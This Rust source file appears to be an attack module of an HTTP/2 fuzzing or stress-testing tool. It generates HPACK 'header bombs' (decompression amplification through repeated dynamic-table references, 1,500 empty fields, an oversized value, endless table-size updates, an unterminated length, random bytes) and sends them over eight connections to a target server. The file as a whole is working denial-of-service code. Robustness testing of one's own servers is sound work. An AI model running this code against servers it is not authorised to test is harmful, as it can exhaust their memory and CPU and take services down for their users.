//! Header bombs: blocks that are small on the wire and large when read, too many fields, one too long,
//! tables that are resized without end, and blocks that are no HPACK.

use std::time::Duration;

use rand::Rng;

use crate::attacker::{Order, Tally};
use crate::wire::{END_HEADERS, END_STREAM, HEADERS, Peer, call, frame, literal, stream};

const CONNECTIONS: u64 = 8;

pub(crate) async fn attack(order: Order) -> Tally {
    let mut all = Tally::default();
    let mut open = Vec::new();
    let each = (order.inputs / CONNECTIONS).max(1);
    for connection in 0..CONNECTIONS {
        let Ok(mut peer) = Peer::greet(order.target, &[]).await else {
            all.ended += 1;
            continue;
        };
        let (mut ended, mut sent) = (false, 0);
        while sent < each && !ended {
            let number = order.from + connection * each + sent;
            let block = bomb(&order, number);
            let headers = frame(HEADERS, END_HEADERS | END_STREAM, stream(sent), &block);
            ended = peer.write(&headers).await.is_err() || peer.is_ended().await;
            sent += 1;
        }
        all.inputs += sent.max(1);
        open.push(peer);
    }
    all.inputs += u64::from(open.is_empty());
    for mut peer in open {
        all.saw(0, peer.listen(Duration::from_millis(20), each).await);
    }
    all
}

fn bomb(order: &Order, number: u64) -> Vec<u8> {
    let mut random = order.random(number);
    let mut block = call("ReadMemory");
    match number % 6 {
        // One large entry of the dynamic table, named by one byte, thousands of times.
        0 => {
            block.extend(literal(0x40, "x-bomb", &"b".repeat(4_000)));
            block.extend(std::iter::repeat_n(0x80 | 62, 12_000));
        }
        1 => {
            for field in 0..1_500 {
                block.extend(literal(0x00, &format!("x{field}"), ""));
            }
        }
        2 => block.extend(literal(0x00, "x-long", &"v".repeat(16_000))),
        // To nothing and back again.
        3 => block = [0x20, 0x3F, 0xE1, 0x1F].repeat(4_000),
        // A length that never ends.
        4 => block.extend([&[0x00, 0x7F][..], &[0xFF; 30]].concat()),
        _ => block = (0..random.random_range(1..2_000)).map(|_| random.random()).collect(),
    }
    block
}
